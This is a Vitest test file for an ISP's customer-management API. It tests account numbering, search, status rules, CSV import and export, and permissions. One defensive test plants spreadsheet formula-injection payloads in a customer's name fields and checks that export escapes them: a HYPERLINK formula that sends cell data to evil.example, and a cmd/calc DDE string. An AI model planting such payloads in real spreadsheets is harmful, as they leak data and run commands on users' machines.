import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { withTenant } from "../../db/tenant";
import { newId } from "../../lib/ids";
import { callerAs, makeCompany, makeUser } from "../../test/fixtures";
import { failure } from "../../test/trpc";

type Caller = Awaited<ReturnType<typeof callerAs>>;
let co: Awaited<ReturnType<typeof makeCompany>>;
let staff: Caller;

beforeAll(async () => {
  co = await makeCompany("cust-isp");
  staff = await callerAs(co.company, (await makeUser(co.company.id, "CUSTOMER_SERVICE_MANAGER")).id);
});

const person = (n: number | string, extra: Record<string, unknown> = {}) => ({
  firstName: "Jane",
  lastName: `Wanjiru ${n}`,
  email: `jane${n}@example.com`,
  phone: `+254 722 ${String(n).padStart(3, "0")} 456`,
  serviceAddress: `${n} Ngong Road, Nairobi`,
  ...extra,
});

describe("account numbers", () => {
  it("20 parallel creates get 20 distinct consecutive numbers", async () => {
    const fresh = await makeCompany("cust-numbers");
    const admin = await callerAs(fresh.company, (await makeUser(fresh.company.id, "SUPER_ADMIN")).id);
    const created = await Promise.all(Array.from({ length: 20 }, (_, i) => admin.customers.create(person(500 + i))));
    const numbers = created.map((c) => c.accountNumber).sort((a, b) => a - b);
    expect(numbers).toEqual(Array.from({ length: 20 }, (_, i) => i + 1));
    expect(created.find((c) => c.accountNumber === 7)!.accountNo).toBe("ACC-000007");
  });
});

describe("create and update", () => {
  it("stores a customer, audits it, and refuses a second customer with the same e-mail", async () => {
    const c = await staff.customers.create(
      person(1, { tags: "VIP, fiber ,vip", serviceLatitude: "-1.2921", serviceLongitude: "36.8219" }),
    );
    expect(c).toMatchObject({
      status: "PROSPECT",
      displayName: "Jane Wanjiru 1",
      tags: ["vip", "fiber"],
      serviceLatitude: -1.2921,
      serviceLongitude: 36.8219,
    });
    const f = await failure(staff.customers.create(person(2, { email: "JANE1@example.com" })));
    expect(f.code).toBe("CONFLICT");
    expect(f.fields).toEqual({ email: "Already used by another customer." });
    const audit = await withTenant(co.company.id, (tx) =>
      tx.auditEntry.findMany({ where: { entityType: "Customer", entityId: c.id } }),
    );
    expect(audit.map((a) => a.action)).toEqual(["customer.create"]);
  });

  it("e-mail uniqueness is per company: another ISP may have a customer with the same address", async () => {
    const other = await makeCompany("cust-other");
    const otherStaff = await callerAs(other.company, (await makeUser(other.company.id, "CUSTOMER_SERVICE_MANAGER")).id);
    await staff.customers.create(person(10, { email: "shared@example.com" }));
    expect(await otherStaff.customers.create(person(11, { email: "shared@example.com" }))).toMatchObject({
      accountNo: "ACC-000001",
    });
  });

  it("validates with clear field errors: business name, coordinates, contact", async () => {
    const f = await failure(
      staff.customers.create({
        type: "BUSINESS",
        phone: "0722000111",
        contactChannel: "PHONE",
        serviceLatitude: 91,
        serviceLongitude: 10,
      }),
    );
    expect(f.code).toBe("BAD_REQUEST");
    expect(f.fields).toMatchObject({
      businessName: "A business customer needs a business name.",
      serviceLatitude: "Latitude must be between -90 and 90.",
    });
    const g = await failure(staff.customers.create({ firstName: "No", lastName: "Contact", contactChannel: "SMS" }));
    expect(g.fields?.phone).toMatch(/phone number/);
  });

  it("update keeps the account number, refreshes the search text and audits only what changed", async () => {
    const c = await staff.customers.create(person(3));
    const { id: _id, accountNumber: _n, ...rest } = c;
    const updated = await staff.customers.update({
      ...rest,
      id: c.id,
      businessName: "Mama Mboga Shop",
      type: "BUSINESS",
      contactChannel: "WHATSAPP",
    });
    expect(updated).toMatchObject({
      accountNumber: c.accountNumber,
      displayName: "Mama Mboga Shop",
      contactChannel: "WHATSAPP",
    });
    expect((await staff.customers.list({ search: "mboga" })).rows.map((r) => r.id)).toEqual([c.id]);
    const entry = await withTenant(co.company.id, (tx) =>
      tx.auditEntry.findFirst({ where: { entityId: c.id, action: "customer.update" } }),
    );
    expect(Object.keys(entry!.after as object).sort()).toEqual([
      "businessName",
      "contactChannel",
      "displayName",
      "type",
    ]);
  });
});

describe("search, filters and paging", () => {
  it("finds by part of the name, phone (with or without spaces), account number and address", async () => {
    const c = await staff.customers.create(
      person(4, {
        firstName: "Achieng",
        lastName: "Otieno",
        phone: "+254 733 987 654",
        serviceAddress: "Kisumu Road 12",
      }),
    );
    for (const term of [
      "chien",
      "OTIENO",
      "733 987",
      "733987",
      c.accountNo.toLowerCase(),
      c.accountNo.slice(4),
      "kisumu road",
    ]) {
      expect(
        (await staff.customers.list({ search: term })).rows.map((r) => r.id),
        term,
      ).toContain(c.id);
    }
    expect((await staff.customers.list({ search: "no-such-customer" })).total).toBe(0);
  });

  it("searches only the caller's company, treats % and _ literally, and says when a search matched too many", async () => {
    const other = await makeCompany("cust-search-other");
    const otherStaff = await callerAs(other.company, (await makeUser(other.company.id, "CUSTOMER_SERVICE_MANAGER")).id);
    const mine = await staff.customers.create(person(901, { lastName: "Kipchumba_Unique" }));
    expect((await otherStaff.customers.list({ search: "kipchumba_unique" })).total).toBe(0);
    expect((await staff.customers.list({ search: "kipchumba_unique" })).rows.map((r) => r.id)).toEqual([mine.id]);
    expect((await staff.customers.list({ search: "kipchumba%unique" })).total).toBe(0);
    expect((await staff.customers.list({ search: "kipchumbaxunique" })).total).toBe(0);

    const crowd = await makeCompany("cust-search-crowd");
    await withTenant(crowd.company.id, (tx) =>
      tx.customer.createMany({
        data: Array.from({ length: 1005 }, (_, i) => ({
          id: newId(),
          companyId: crowd.company.id,
          accountNumber: i + 1,
          firstName: "Same",
          lastName: `Name ${i}`,
          email: null,
          phone: "0700",
          searchText: `same name ${i}`,
        })),
      }),
    );
    const crowdStaff = await callerAs(crowd.company, (await makeUser(crowd.company.id, "CUSTOMER_SERVICE_MANAGER")).id);
    const many = await crowdStaff.customers.list({ search: "same name" });
    expect(many).toMatchObject({ total: 1000, capped: true });
    expect(await crowdStaff.customers.list({ search: "same name 100" })).toMatchObject({ total: 6, capped: false }); // 100, 1000–1004;
  });

  it("filters by status, type and tag; sorts by name; pages", async () => {
    const tag = `t${Date.now()}`;
    await staff.customers.create(person(801, { firstName: "Zed", lastName: "Zulu", tags: [tag] }));
    await staff.customers.create(person(802, { firstName: "Abel", lastName: "Aoko", tags: [tag] }));
    const sorted = await staff.customers.list({ tag, sort: "name", direction: "asc" });
    expect(sorted.rows.map((r) => r.firstName)).toEqual(["Abel", "Zed"]);
    const paged = await staff.customers.list({ tag, sort: "name", direction: "asc", pageSize: 1, page: 2 });
    expect(paged).toMatchObject({ total: 2, pageCount: 2 });
    expect(paged.rows[0].firstName).toBe("Zed");
    expect((await staff.customers.list({ tag, status: "ACTIVE" })).total).toBe(0);
    expect((await staff.customers.list({ tag, type: "INDIVIDUAL" })).total).toBe(2);
    expect(await staff.customers.tags()).toContain(tag);
  });
});

describe("status, delete and timeline", () => {
  it("status changes follow the rules and are audited", async () => {
    const c = await staff.customers.create(person(5));
    await staff.customers.changeStatus({ id: c.id, status: "ACTIVE" });
    const f = await failure(staff.customers.changeStatus({ id: c.id, status: "PROSPECT" }));
    expect(f.code).toBe("UNPROCESSABLE_CONTENT");
    const s = await staff.customers.changeStatus({ id: c.id, status: "SUSPENDED", reason: "Unpaid invoice" });
    expect(s.status).toBe("SUSPENDED");
    const timeline = await staff.customers.timeline({ id: c.id });
    expect(timeline.map((t) => t.action)).toEqual([
      "customer.status_change",
      "customer.status_change",
      "customer.create",
    ]);
    expect(timeline[0].details).toMatchObject({
      before: { status: "ACTIVE" },
      after: { status: "SUSPENDED", reason: "Unpaid invoice" },
    });
  });

  it("a customer without history is deleted; one with a subscription is refused and stays", async () => {
    const fresh = await staff.customers.create(person(6));
    await staff.customers.delete({ id: fresh.id });
    expect((await failure(staff.customers.get({ id: fresh.id }))).code).toBe("NOT_FOUND");

    const c = await staff.customers.create(person(7));
    const subscriptionId = newId();
    await withTenant(co.company.id, async (tx) => {
      const pkg = await tx.package.create({
        data: {
          id: newId(),
          companyId: co.company.id,
          name: "Home 10",
          code: `H10-${Date.now()}`,
          type: "PPPOE",
          downloadKbps: 10_000,
          uploadKbps: 5_000,
          priceMinor: 250_000,
        },
      });
      await tx.subscription.create({
        data: {
          id: subscriptionId,
          companyId: co.company.id,
          customerId: c.id,
          packageId: pkg.id,
          startDate: new Date("2026-11-01"),
        },
      });
      await tx.subscriptionEvent.create({
        data: { id: newId(), companyId: co.company.id, subscriptionId, toStatus: "PENDING", actorLabel: "tester" },
      });
      await tx.usageDaily.create({
        data: {
          companyId: co.company.id,
          subscriptionId,
          day: new Date("2026-11-02"),
          downloadBytes: 1_000n,
          uploadBytes: 10n,
        },
      });
    });
    const f = await failure(staff.customers.delete({ id: c.id }));
    expect(f.code).toBe("CONFLICT");
    expect(f.message).toMatch(/terminate the account instead/);
    expect((await staff.customers.get({ id: c.id })).id).toBe(c.id);
    const timeline = await staff.customers.timeline({ id: c.id });
    expect(timeline.map((t) => t.source)).toContain("subscription");
  });
});

describe("CSV", () => {
  const header =
    "type,firstName,lastName,businessName,email,phone,contactChannel,tags,serviceLatitude,serviceLongitude";

  it("a dry run reports every bad row with its line and imports nothing", async () => {
    const csv = [
      header,
      "INDIVIDUAL,Good,Row,,good.row@example.com,0711000001,EMAIL,a;b,,",
      "BUSINESS,,,,biz@example.com,0711000002,EMAIL,,,",
      "INDIVIDUAL,Far,Away,,far@example.com,0711000003,EMAIL,,95,10",
      "INDIVIDUAL,Dup,One,,dup@example.com,0711000004,EMAIL,,,",
      "INDIVIDUAL,Dup,Two,,dup@example.com,0711000005,EMAIL,,,",
    ].join("\n");
    const before = (await staff.customers.list({})).total;
    for (const dryRun of [true, false]) {
      const report = await staff.customers.importCsv({ csv, dryRun });
      expect(report).toMatchObject({ total: 5, valid: 2, imported: 0 });
      expect(report.problems.map((p) => p.row)).toEqual([3, 4, 6]);
      expect(report.problems[0].messages).toEqual(["businessName: A business customer needs a business name."]);
      expect(report.problems[1].messages[0]).toMatch(/serviceLatitude/);
      expect(report.problems[2].messages[0]).toMatch(/row 5/);
    }
    expect((await staff.customers.list({})).total).toBe(before);
  });

  it("a bad row's repeated e-mail is reported with its other problems, not only once they are fixed", async () => {
    const csv = [
      header,
      "INDIVIDUAL,Dup,One,,twice@example.com,0711000021,EMAIL,,,",
      "INDIVIDUAL,Dup,Two,,Twice@Example.com,0711000022,EMAIL,,95,",
    ].join("\n");
    const report = await staff.customers.importCsv({ csv, dryRun: true });
    expect(report).toMatchObject({ total: 2, valid: 1 });
    expect(report.problems).toHaveLength(1);
    expect(report.problems[0].row).toBe(3);
    expect(report.problems[0].messages).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^serviceLatitude: /),
        "email: twice@example.com is also on row 2.",
      ]),
    );
  });

  it("a valid file imports every row in one go; export writes them back with documented columns", async () => {
    const csv = [
      header,
      "INDIVIDUAL,Imported,One,,imp1@example.com,0711000011,EMAIL,csv;import,-1.3,36.8",
      "BUSINESS,,,Imported Ltd,imp2@example.com,0711000012,SMS,csv,,",
    ].join("\r\n");
    const dry = await staff.customers.importCsv({ csv, dryRun: true });
    expect(dry).toMatchObject({ total: 2, valid: 2, imported: 0, problems: [] });
    expect((await staff.customers.list({ tag: "import" })).total).toBe(0);
    const done = await staff.customers.importCsv({ csv, dryRun: false });
    expect(done).toMatchObject({ imported: 2 });
    const exported = await staff.customers.exportCsv({ tag: "csv", sort: "name", direction: "asc" });
    const lines = exported.csv.split("\r\n");
    expect(lines[0]).toBe(
      "accountNumber,type,status,firstName,lastName,businessName,taxId,email,phone,altPhone,serviceAddress,serviceLatitude,serviceLongitude,billingAddress,idDocumentType,idDocumentNumber,contactChannel,language,paperlessBilling,tags,notes,createdAt",
    );
    expect(exported.rows).toBe(2);
    expect(lines.find((l) => l.includes("imp1@"))).toMatch(
      /^ACC-\d{6},INDIVIDUAL,PROSPECT,Imported,One,,,imp1@example.com,0711000011,,,-1.3,36.8,,,,EMAIL,en,yes,csv;import,,/,
    );
    // The exported file imports again as-is (after the e-mails are changed), so it is a template.
    const again = await staff.customers.importCsv({
      csv: exported.csv.replaceAll("@example.com", "@example.org"),
      dryRun: true,
    });
    expect(again).toMatchObject({ valid: 2, problems: [] });
  });

  it("export escapes every cell a spreadsheet would run as a formula, + and - included", async () => {
    const hostile = '-1+HYPERLINK("http://evil.example/?x="&A1,"Open")';
    await staff.customers.create({
      firstName: hostile,
      lastName: "+cmd|' /C calc'!A0",
      email: "formula@example.com",
      phone: "+254712345678",
      tags: ["formula"],
    });
    const exported = await staff.customers.exportCsv({ tag: "formula" });
    const rows = Papa.parse<Record<string, string>>(exported.csv, { header: true, skipEmptyLines: true }).data;
    expect(rows).toHaveLength(1);
    const [only] = rows;
    expect(only.firstName).toBe(`'${hostile}`);
    expect(only.lastName).toBe("'+cmd|' /C calc'!A0");
    expect(only.phone).toBe("+254712345678");
  });

  it("imported customers take consecutive account numbers in file order, and numbering continues after them", async () => {
    const fresh = await makeCompany("cust-import-numbers");
    const admin = await callerAs(fresh.company, (await makeUser(fresh.company.id, "CUSTOMER_SERVICE_MANAGER")).id);
    await admin.customers.create({ firstName: "Before", email: "before@example.com" });
    const csv = [
      "firstName,lastName,email",
      ...Array.from({ length: 50 }, (_, i) => `Jane,Row ${i},row${i}@example.com`),
    ].join("\n");
    expect(await admin.customers.importCsv({ csv, dryRun: false })).toMatchObject({ imported: 50 });
    const page = await admin.customers.list({ sort: "accountNumber", direction: "asc", pageSize: 3 });
    expect(page.rows.map((r) => [r.accountNo, r.lastName])).toEqual([
      ["ACC-000001", null],
      ["ACC-000002", "Row 0"],
      ["ACC-000003", "Row 1"],
    ]);
    expect((await admin.customers.create({ firstName: "After", email: "after@example.com" })).accountNo).toBe(
      "ACC-000052",
    );
    const timeline = await admin.customers.timeline({ id: page.rows[1].id });
    expect(timeline.map((t) => t.action)).toEqual(["customer.create"]);
  });

  it("refuses a file with unknown columns, naming them", async () => {
    const f = await failure(staff.customers.importCsv({ csv: "name,mobile\nJane,0711", dryRun: true }));
    expect(f.message).toMatch(/Unknown columns: name, mobile/);
  });
});

describe("permissions", () => {
  it("a field technician reads but cannot create, delete or export", async () => {
    const tech = await callerAs(co.company, (await makeUser(co.company.id, "FIELD_TECHNICIAN")).id);
    expect((await tech.customers.list({})).total).toBeGreaterThan(0);
    expect((await failure(tech.customers.create(person(99)))).code).toBe("FORBIDDEN");
    expect((await failure(tech.customers.exportCsv({}))).code).toBe("FORBIDDEN");
  });
});
